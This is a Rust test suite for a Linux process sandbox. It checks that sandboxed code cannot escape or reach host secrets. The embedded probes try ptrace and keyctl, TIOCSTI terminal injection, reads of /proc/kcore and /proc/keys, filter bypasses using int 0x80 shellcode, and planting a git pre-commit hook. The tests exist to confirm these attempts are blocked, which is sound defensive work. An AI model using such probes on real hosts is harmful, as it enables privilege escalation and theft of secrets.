        &caps,
    );
    assert_eq!(ok_stdout(&out).trim(), "ok");
    assert!(std::fs::read_to_string(ws.path(".git/hooks/pre-commit"))
        .expect("hook")
        .ends_with("echo edited\n"));
    assert_eq!(
        std::fs::read_to_string(ws.path(".envrc")).expect("envrc"),
        "export EDITED=1\n"
    );
    assert!(
        out.receipt
            .gaps
            .iter()
            .any(|g| g.capability == Capability::Fs && g.reason.contains("by request")),
        "the opt-out is in the receipt: {}",
        out.receipt
    );
}

#[test]
fn symlinked_host_executed_path_in_rw_grant_refuses_the_run() {
    let home = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(home.path().join("dotfiles")).expect("mkdir");
    std::fs::write(home.path().join("dotfiles/bashrc"), "alias ll='ls -l'\n").expect("write");
    std::os::unix::fs::symlink("dotfiles/bashrc", home.path().join(".bashrc")).expect("link");
    let marker = home.path().join("ran");
    let tool = sh(&format!("touch {}", marker.display()));
    let caps = Caps::new().read_write(home.path());
    let err = sandbox().run(&tool, &caps).expect_err("refused");
    assert_eq!(err.kind(), ErrorKind::InvalidRequest, "{err}");
    assert!(
        err.to_string().contains(&format!(
            "{} is a symlink",
            home.path().join(".bashrc").display()
        )),
        "{err}"
    );
    assert!(!marker.exists());
    run(&tool, &caps.allow_host_executed_writes());
    assert!(marker.exists(), "runs once the caller opts out");
}

#[test]
fn documented_gap_a_missing_hooks_dir_can_still_be_created() {
    // Protection covers what exists when the run starts. A repository without .git/hooks
    // gets one from the tool: the transactional workspace (a diff the caller reviews) is
    // what closes this; this test pins the documented behaviour.
    let ws = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(ws.path().join(".git/objects")).expect("mkdir");
    let out = run(
        &sh(&format!(
            "mkdir {root}/.git/hooks && echo evil > {root}/.git/hooks/pre-commit && echo created",
            root = ws.path().display()
        )),
        &Caps::new().read_write(ws.path()),
    );
    assert_eq!(ok_stdout(&out).trim(), "created");
    assert!(ws.path().join(".git/hooks/pre-commit").exists());
    assert!(
        out.receipt.to_string().contains("can still create one"),
        "{}",
        out.receipt
    );
}

// ---------------------------------------------------------------- H: signals, ptrace, kernel objects

#[test]
fn blocks_ptrace_keyring_and_terminal_injection() {
    let code = r#"
import fcntl, termios
for name, nr, args in [("ptrace-attach-1", 101, [16, 1, 0, 0]), ("keyctl", 250, [0, 0, 0, 0]), ("add_key", 248, [0, 0, 0, 0, 0]), ("process_vm_readv", 310, [1, 0, 0, 0, 0, 0]), ("perf_event_open", 298, [0, 0, 0, 0, 0]), ("bpf", 321, [0, 0, 0]), ("userfaultfd", 323, [0]), ("io_uring_setup", 425, [1, 0])]:
    r, e = sc(nr, *args)
    print(name, r, errno.errorcode.get(e, e))
r, e = sc(16, 0, 0x5412, 0)
print("tiocsti", r, errno.errorcode.get(e, e))
"#;
    let out = run(&probe(code), &Caps::new());
    let text = ok_stdout(&out);
    for line in text.lines() {
        assert!(line.ends_with(" -1 EPERM"), "{line}\n{text}");
    }
}

#[test]
fn cannot_signal_the_embedding_process() {
    let me = std::process::id();
    let out = run(
        &py(&format!("import os\ntry:\n  os.kill({me}, 0); print('REACHED')\nexcept OSError as e: print('denied', e.errno)")),
        &Caps::new(),
    );
    assert!(ok_stdout(&out).starts_with("denied"), "{}", stdout(&out));
}

// ---------------------------------------------------------------- I: host secrets

#[test]
fn proc_and_sys_do_not_leak_host_state() {
    let code = r#"
import os
print("sys" in os.listdir("/"))
for p in ["/proc/kcore", "/proc/keys", "/proc/sysrq-trigger", "/proc/kallsyms", "/proc/timer_list"]:
    try:
        data = open(p, "rb").read(64)
        print(p, len(data))
    except OSError as e:
        print(p, "denied", e.errno)
for p in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"]:
    try:
        open(p, "w").write("1"); print("WROTE", p)
    except OSError as e:
        print("nowrite", p, e.errno)
print(sorted(int(p) for p in os.listdir("/proc") if p.isdigit()))
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert!(text.starts_with("False"), "/sys is not mounted: {text}");
    assert!(!text.contains("WROTE"), "{text}");
    for masked in [
        "/proc/kcore",
        "/proc/keys",
        "/proc/kallsyms",
        "/proc/timer_list",
    ] {
        let line = text
            .lines()
            .find(|l| l.starts_with(masked))
            .unwrap_or_default();
        assert!(
            line == format!("{masked} 0") || line.starts_with(&format!("{masked} denied")),
            "{masked} must read empty or be absent: {line:?}"
        );
    }
    let pids = text.lines().last().unwrap_or_default();
    assert_eq!(
        pids, "[1, 2]",
        "only init and the probe are visible: {pids}"
    );
}

// ---------------------------------------------------------------- J: filter bypasses

#[test]
fn i386_int80_syscalls_kill_the_process() {
    // mov eax, 20 (getpid on i386); int 0x80; ret -- run from an executable mapping.
    let code = r#"
import ctypes, mmap
code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"
buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
buf.write(code)
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
print("calling", flush=True)
ctypes.CFUNCTYPE(ctypes.c_int)(addr)()
print("SURVIVED")
"#;
    let out = run(&py(code), &Caps::new());
    assert_eq!(
        out.signal(),
        Some(libc::SIGSYS),
        "{} {}",
        out.status,
        stdout(&out)
    );
    assert!(!stdout(&out).contains("SURVIVED"));
}

#[test]
fn x32_abi_syscalls_fail() {
    let out = run(
        &probe("print(sc(0x40000000 | 39))\nprint(sc(0x40000000 | 165, 0, 0, 0, 0, 0))"),
        &Caps::new(),
    );
    let text = ok_stdout(&out);
    assert_eq!(
        text.lines().collect::<Vec<_>>(),
        ["(-1, 38)", "(-1, 38)"],
        "ENOSYS: {text}"
    );
}

#[test]
fn unknown_and_new_syscalls_get_enosys_and_clone3_falls_back() {
    let out = run(&probe("print(sc(435, 0, 0))\nprint(sc(999))\nimport subprocess\nprint(subprocess.run(['/bin/true']).returncode)"), &Caps::new());
    let text = ok_stdout(&out);
    assert_eq!(
        text.lines().collect::<Vec<_>>(),
        ["(-1, 38)", "(-1, 38)", "0"],
        "{text}"
    );
}

#[test]
fn every_denied_syscall_fails_with_eperm() {
    use sandbox_os::backend_api::seccomp::DENIED;
    let list: Vec<String> = DENIED
        .iter()
        .map(|d| format!("({}, {:?})", d.nr, d.name))
        .collect();
    let code = format!(
        "for nr, name in [{}]:\n    print(name, sc(nr, 0, 0, 0, 0, 0, 0))\nprint('personality-norandom', sc(135, 0x0040000))\nprint('personality-query', sc(135, 0xffffffff)[1])",
        list.join(", ")
    );
    let out = run(&probe(&code), &Caps::new());
    let text = ok_stdout(&out);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), DENIED.len() + 2, "{text}");
    for line in &lines[..DENIED.len()] {
        assert!(
            line.ends_with("(-1, 1)"),
            "denied syscall not EPERM: {line}"
        );
    }
    assert_eq!(lines[DENIED.len()], "personality-norandom (-1, 1)");
    assert_eq!(lines[DENIED.len() + 1], "personality-query 0");
}

#[test]
fn allowed_syscalls_work() {
    let out = run(
        &probe("print(sc(39)[0] > 0, sc(102)[1], sc(318, 0, 0, 0))"),
        &Caps::new(),
    );
    assert_eq!(ok_stdout(&out).trim(), "True 0 (0, 0)");
}

#[test]
fn every_thread_has_seccomp_and_no_new_privs() {
    let code = r#"
import threading, os, time
ev = threading.Event()
ts = [threading.Thread(target=ev.wait) for _ in range(4)]
[t.start() for t in ts]
for tid in os.listdir("/proc/self/task"):
    st = open(f"/proc/self/task/{tid}/status").read()
    fields = dict(l.split(":\t", 1) for l in st.splitlines() if ":\t" in l)
    print(fields["Seccomp"].strip(), fields["NoNewPrivs"].strip(), fields["CapEff"].strip())
ev.set()
"#;
    let out = run(&py(code), &Caps::new());
    let text = ok_stdout(&out);
    assert_eq!(text.lines().count(), 5, "{text}");
    for line in text.lines() {
        assert_eq!(line, format!("2 1 {}", kept_caps()));
    }
}

// ---------------------------------------------------------------- K: lifecycle

#[test]
fn timeout_kills_double_forked_setsid_and_stopped_processes() {
    let marker = "3131.5";
    let out = run(
        &sh(&format!(
            "(setsid sleep {marker} &); sleep {marker} & kill -STOP $!; (sh -c 'sleep {marker}' &) ; sleep 60"
        )),
        &Caps::new().timeout(Duration::from_millis(500)),
    );
    assert!(out.timed_out());
    assert!(
        eventually(Duration::from_secs(2), || processes_with(marker).is_empty()),
        "{:?}",
        processes_with(marker)
    );
}

#[test]
fn embedder_death_kills_the_sandbox() {
    let cli = cli();
    assert!(
        cli.exists(),
        "{} missing: build the workspace binaries",
        cli.display()
    );
    let marker = "2727.25";
    let mut child = std::process::Command::new(&cli)
        .args(["run", "--", "/bin/sh", "-c", &format!("sleep {marker}")])
        .env("STRATA_HELPER", helper())
        .spawn()
        .expect("spawn cli");
    assert!(
        eventually(Duration::from_secs(10), || !processes_with(marker)
            .is_empty()),
        "sandboxed sleep never started"
    );
    let embedder = child.id();
    child.kill().expect("SIGKILL the embedder");
    let _ = child.wait();
    assert!(
        eventually(Duration::from_secs(5), || processes_with(marker).is_empty()),
        "sandbox outlived its embedder: {:?}",
        processes_with(marker)
    );
    if is_root() {
        // The embedder never got to remove its run's cgroups: the next Strata process to
        // start sweeps the empty cgroups of embedders that no longer exist.
        let swept = || {
            let next = std::process::Command::new(&cli)
                .args(["run", "--", "/bin/true"])
                .env("STRATA_HELPER", helper())
                .status()
                .expect("run the cli again");
            assert!(next.success());
            run_cgroups_of(embedder) == 0
        };
        assert!(
            eventually(Duration::from_secs(5), swept),
            "the killed embedder's cgroups were left behind"
        );
    }
}

#[test]
fn posture_matches_the_caps() {
    let work = tempfile::tempdir().expect("tempdir");
    let code = r#"
import os
st = dict(l.split(":\t", 1) for l in open("/proc/self/status").read().splitlines() if ":\t" in l)
for k in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"]:
    print(k, st[k].strip())
print("fds", sorted(os.listdir("/proc/self/fd")))
print("ns", sorted(os.listdir("/proc/self/ns")))
print("hostname", os.uname().nodename)
print("cgroup", open("/proc/self/cgroup").read().strip().splitlines()[-1])
print("limits", [l.split()[3] for l in open("/proc/self/limits") if l.startswith(("Max cpu time", "Max file size", "Max open files"))])
mounts = [l.split()[1] + ":" + l.split()[3].split(",")[0] for l in open("/proc/self/mounts")]
print("mounts", " ".join(mounts))
"#;
    let mut caps = Caps::new().read_write(work.path());
    caps.limits.open_files = 64;
    let out = run(&py(code), &caps);
    let text = ok_stdout(&out);
    let caps: Vec<String> = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]
        .iter()
        .map(|set| format!("{set} {}", kept_caps()))
        .collect();
    for expected in caps.iter().map(String::as_str).chain([
        "NoNewPrivs 1",
        "Seccomp 2",
        "fds ['0', '1', '2', '3']",
        "hostname strata",
        "limits ['30', '67108864', '64']",
    ]) {
        assert!(
            text.contains(expected),
            "missing {expected:?} in posture:\n{text}"
        );
    }
    let mounts = text
        .lines()
        .find(|l| l.starts_with("mounts"))
        .unwrap_or_default();
    assert!(mounts.contains("/usr:ro"), "{mounts}");
    assert!(
        mounts.contains(&format!("{}:rw", work.path().display())),
        "{mounts}"
    );
    assert!(mounts.contains(" /:ro"), "root is read-only: {mounts}");
    assert!(mounts.contains("/tmp:rw"), "{mounts}");
    if is_root() {
        assert!(
            text.contains("cgroup 0::/") || text.contains(":/\n") || text.contains("cgroup "),
            "{text}"
        );
    }
}

/// The capability sets a tool has: under its own host identity (a root embedder),
/// CAP_DAC_OVERRIDE and CAP_FOWNER in its own user namespace, so it can use the embedder's
/// files in its grants; otherwise none.
fn kept_caps() -> &'static str {
    if is_root() {
        "000000000000000a"
    } else {
        "0000000000000000"
    }
}

// ---------------------------------------------------------------- fail closed

fn faulty(
    fault: sandbox_os::backend_api::protocol::Fault,
    strictness: Strictness,
) -> strata::Result<strata::RunOutput> {
    let backend = strata::ProcessBackend::with_helper(helper()).inject_fault(fault);
    let ctx = strata::RunContext {
        strictness,
        ..Default::default()
    };
    let marker = tempfile::tempdir().expect("tempdir");
    let flag = marker.path().join("ran");
    let result = strata::Backend::run_caps(
        &backend,
        &sh(&format!("touch {}", flag.display())),
        &Caps::new().read_write(marker.path()),
        &ctx,
    );
    if result.is_err() {
        assert!(!flag.exists(), "the tool ran although the run was refused");
    }
    result
}

#[test]
fn namespace_failure_refuses_the_run_even_best_effort() {
    use sandbox_os::backend_api::protocol::Fault;
    for strictness in [Strictness::Strict, Strictness::BestEffort] {
        let err = faulty(Fault::Namespaces, strictness).expect_err("must refuse");
        assert_eq!(err.kind(), ErrorKind::Unenforceable, "{err}");
        let text = err.to_string();
        assert!(text.contains("user namespace"), "{err}");
        // Issue 33: it names the cause and the way to enable them, and promises no
        // best-effort run (best effort was refused too).
        assert!(text.contains("kernel.unprivileged_userns_clone=0"), "{err}");
        assert!(text.contains("to enable them: sysctl"), "{err}");
        assert!(!text.contains("best-effort strictness would run"), "{err}");
    }
}

#[test]
fn seccomp_failure_refuses_the_run() {
    use sandbox_os::backend_api::protocol::Fault;
    let err = faulty(Fault::Seccomp, Strictness::BestEffort).expect_err("must refuse");
    assert_eq!(err.kind(), ErrorKind::Unenforceable);
    assert!(err.to_string().contains("seccomp"), "{err}");
}

#[test]
fn landlock_unavailable_refuses_strict_and_is_a_gap_best_effort() {
    use sandbox_os::backend_api::protocol::Fault;
    let err = faulty(Fault::Landlock, Strictness::Strict).expect_err("strict refuses");
    assert_eq!(err.kind(), ErrorKind::Unenforceable);
    assert!(err.to_string().contains("landlock"), "{err}");
    let out = faulty(Fault::Landlock, Strictness::BestEffort).expect("best effort runs");
    assert!(out.success());
    assert!(
        out.receipt
            .gaps
            .iter()
            .any(|g| g.capability == Capability::Fs && g.reason.contains("landlock")),
        "{}",
        out.receipt
    );
    assert!(
        !out.receipt.has(Capability::Fs, "landlock"),
        "{}",
        out.receipt
    );
}

#[test]
fn limits_without_a_cgroup_are_refused_strict_and_listed_as_gaps_best_effort() {
    use sandbox_os::backend_api::protocol::Fault;
    // rlimits are per process or per uid: they may not stand in for the run's memory, pids
    // and CPU limits, for any caller.
    let err = faulty(Fault::Cgroup, Strictness::Strict).expect_err("strict refuses");
    assert_eq!(err.kind(), ErrorKind::Unenforceable);
    for named in ["memory", "pids", "cpu"] {
        assert!(err.to_string().contains(named), "{named}: {err}");
    }
    let out = faulty(Fault::Cgroup, Strictness::BestEffort).expect("best effort runs");
    for capability in [Capability::Memory, Capability::Pids, Capability::Cpu] {
        assert!(
            out.receipt.gaps.iter().any(|g| g.capability == capability),
            "{capability:?} gap: {}",
            out.receipt
        );
    }
    assert!(
        out.receipt
            .enforced_for(Capability::Memory)
            .all(|e| e.detail.contains("not for the run")),
        "no run-wide memory limit may be claimed: {}",
        out.receipt
    );
}

// ----------------------------------------- a host without user namespaces (issue 33)

/// Ubuntu 23.10+, many containers and CI runners give an unprivileged user no user
/// namespace. Without one the process backend has no sandbox to offer, so a run of either
/// strictness is refused with the cause and the remedy, names user namespaces rather than
/// a lesser gap (the missing cgroup, which a strict run used to name alone), and runs
/// nothing; `doctor` says the same.
#[test]
fn without_user_namespaces_a_run_is_refused_naming_them_and_nothing_runs() {
    if !require_root("without_user_namespaces_a_run_is_refused_naming_them_and_nothing_runs") {
        return;
    }
    run_inner_without_userns("without_user_namespaces_inner", (1000, 1000), &[]);
}

#[test]
#[ignore = "runs as uid 1000 where no user namespace can be made, under without_user_namespaces_a_run_is_refused_naming_them_and_nothing_runs"]
fn without_user_namespaces_inner() {
    assert!(!is_root(), "must run unprivileged");
    let limit = std::fs::read_to_string("/proc/sys/user/max_user_namespaces").expect("read limit");
    assert_eq!(limit.trim(), "0", "the harness set no limit");
    let unshare = std::process::Command::new("unshare")
        .args(["--user", "true"])
        .output()
        .expect("unshare");
    assert!(
        !unshare.status.success(),
        "a user namespace could still be made here"
    );
    let helper = std::env::var("STRATA_INNER_HELPER").expect("run by its outer test");
    let scratch = std::path::PathBuf::from(std::env::var("STRATA_INNER_SCRATCH").expect("scratch"));
    for strictness in [Strictness::Strict, Strictness::BestEffort] {
        let sandbox = strata::Sandbox::builder()
            .backend(strata::BackendChoice::Only(strata::BackendKind::Process))
            .helper(&helper)
            .strictness(strictness)
            .build()
            .expect("sandbox");
        let flag = scratch.join(format!("ran-{strictness}"));
        let err = sandbox
            .run(
                &sh(&format!("touch {}", flag.display())),
                &Caps::new().read_write(&scratch),
            )
            .expect_err("no user namespace: refused");
        let text = err.to_string();
        assert_eq!(err.kind(), ErrorKind::Unenforceable, "{text}");
        for expected in [
            "user namespace",
            "user.max_user_namespaces is 0",
            "to enable them: sysctl user.max_user_namespaces=",
        ] {
            assert!(
                text.contains(expected),
                "{strictness}: no {expected:?} in: {text}"
            );
        }
        assert!(!text.contains("best-effort strictness would run"), "{text}");
        assert!(
            !text.contains("no cgroup"),
            "{strictness} names a lesser gap: {text}"
        );
        assert!(!flag.exists(), "the tool ran although the run was refused");
        let report = sandbox.doctor();
        let process = report
            .backends
            .iter()
            .find(|b| b.backend == strata::BackendKind::Process)
            .expect("process backend in doctor");
        let namespaces = process
            .checks
            .iter()
            .find(|c| c.name == "namespaces")
            .expect("namespaces check");
        assert!(!namespaces.ok, "{namespaces:?}");
        assert!(
            namespaces.detail.contains("user.max_user_namespaces is 0"),
            "{namespaces:?}"
        );
        assert!(!process.available, "{process:?}");
    }
}
